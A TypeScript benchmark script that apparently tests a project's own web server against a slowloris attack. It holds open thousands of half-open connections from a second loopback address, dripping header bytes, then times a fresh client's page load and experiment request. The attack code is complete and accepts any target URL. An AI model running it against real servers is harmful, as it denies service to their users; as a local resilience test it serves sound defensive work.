// The slowloris attack on a running site, as figures: N half-open connections from one address (each
// trickling a request header a byte at a time), then a fresh reader from another loopback address loads
// a page and runs an experiment. Prints how many connections the server held and how long the reader
// waited. Usage: node bench/slowloris.ts [url] [connections]   (default http://127.0.0.1:4321, 3000)

import { connect, type Socket } from 'node:net';

const target = new URL(process.argv[2] ?? 'http://127.0.0.1:4321');
const count = Number(process.argv[3] ?? 3000);
// Linux routes all of 127/8 to loopback: the attacker and the reader are two addresses.
const ATTACKER = process.env.ATTACKER_ADDRESS ?? '127.0.0.2';

interface Held {
  socket: Socket;
  open: boolean;
}

function halfOpen(): Promise<Held> {
  return new Promise((resolve) => {
    const socket = connect({ host: target.hostname, port: Number(target.port), localAddress: ATTACKER });
    const held: Held = { socket, open: false };
    socket.on('error', () => (held.open = false));
    socket.on('close', () => (held.open = false));
    socket.once('connect', () => {
      held.open = true;
      socket.write('GET / HTTP/1.1\r\nHost: l\r\n');
      resolve(held);
    });
    setTimeout(() => resolve(held), 5000).unref();
  });
}

async function reader(): Promise<{ pageMs: number; runMs: number; page: number; run: number }> {
  const started = Date.now();
  const page = await fetch(new URL('/', target))
    .then((r) => r.status)
    .catch(() => 0);
  const pageMs = Date.now() - started;
  const run = await fetch(new URL('/api/experiments/keys', target), {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: '{"queue":"orders"}',
  })
    .then((r) => r.status)
    .catch(() => 0);
  return { pageMs, runMs: Date.now() - started - pageMs, page, run };
}

const sockets: Held[] = [];
for (let i = 0; i < count; i += 200) {
  sockets.push(...(await Promise.all(Array.from({ length: Math.min(200, count - i) }, halfOpen))));
}
// One byte a second keeps each header "in progress".
const trickle = setInterval(() => {
  for (const held of sockets) if (held.open) held.socket.write('X');
}, 1000);
await new Promise((resolve) => setTimeout(resolve, 2000));
const held = sockets.filter((s) => s.open).length;
const fresh = await reader();
const stillHeld = sockets.filter((s) => s.open).length;
console.log(
  `slowloris: ${count} half-open connections from ${ATTACKER}; ${held} held after 2 s, ${stillHeld} after the reader`,
);
console.log(
  `fresh reader: page ${fresh.page || 'failed'} in ${fresh.pageMs} ms, experiment ${fresh.run || 'failed'} in ${fresh.runMs} ms`,
);
clearInterval(trickle);
for (const { socket } of sockets) socket.destroy();
